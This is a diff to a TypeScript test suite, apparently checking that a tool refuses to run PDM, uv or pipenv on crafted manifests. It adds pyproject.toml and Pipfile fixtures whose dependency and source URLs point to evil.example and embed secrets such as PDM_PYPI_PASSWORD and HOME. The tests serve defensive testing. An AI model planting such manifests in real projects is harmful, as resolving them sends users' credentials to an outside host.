@@ -48,8 +48,9 @@ describe("manifests", () => {
   } as const
 
   /** What was run, or why nothing was. */
-  async function attempt(manager: keyof typeof MANAGERS, files: Record<string, string>): Promise<string> {
-    const [name, text] = MANAGERS[manager]
+  async function attempt(manager: keyof typeof MANAGERS, files: Record<string, string>, below = ""): Promise<string> {
+    const [file, text] = MANAGERS[manager]
+    const name = below + file
     const given = { [name]: text, ...files }
     const copy = copyTree(temporaryDirectory(given), Object.keys(given), temporaryDirectory({}))
     const lockfile = await readLockfile(copy.dir, name)
@@ -88,10 +89,22 @@ describe("manifests", () => {
     `[[tool.pdm.source]]\nname = "x"\nurl = "https://evil.example"\npassword = "${variable("PDM_PYPI_PASSWORD")}"\n`,
     `[project]\ndependencies = ["a @ https://evil.example/${variable("PDM_PYPI_PASSWORD")}/a.whl"]\n`,
     '[project.optional-dependencies]\nx = ["a @ https://evil.example/{env:PDM_PYPI_PASSWORD}/a.whl"]\n',
+    `[build-system]\nrequires = ["a @ https://evil.example/${variable("PDM_PYPI_PASSWORD")}/a.whl"]\n`,
     `[dependency-groups]\nx = ["a @ https://evil.example/${variable("PROJECT_ROOT")}${variable("HOME")}/a.whl"]\n`,
   ])("PDM and uv are not run with %j", async (text) => {
     expect(await attempt("pdm", { "pyproject.toml": text })).toEqual(refused)
     if (!text.includes("tool.pdm")) expect(await attempt("uv", { "pyproject.toml": text })).toEqual(refused)
+  })
+  it.each([
+    ["of a member with a lockfile of its own", "", "m/", { "m/package-lock.json": "{}" }],
+    ["beside the project, where a path leads", "app/", "m/", {}],
+    ["above it", "app/", "", {}],
+  ])("nor with a manifest %s", async (_, own, place, more) => {
+    const text = `[project]\ndependencies = ["x @ https://evil.example/${variable("X")}/x.whl"]\n`
+    const given = { ...more, [`${own}pyproject.toml`]: "[project]\n", [`${place}pyproject.toml`]: text }
+    for (const manager of ["uv", "pdm"] as const) expect(await attempt(manager, given, own)).toEqual(refused)
+    const pipfile = { ...more, [`${place}Pipfile`]: `[[source]]\nurl = "https://evil.example/${variable("X")}"\n` }
+    expect(await attempt("pipenv", pipfile, own)).toEqual(refused)
   })
   it.each([
     `registry: https://evil.example/${variable("npm_config_cache")}/\n`,
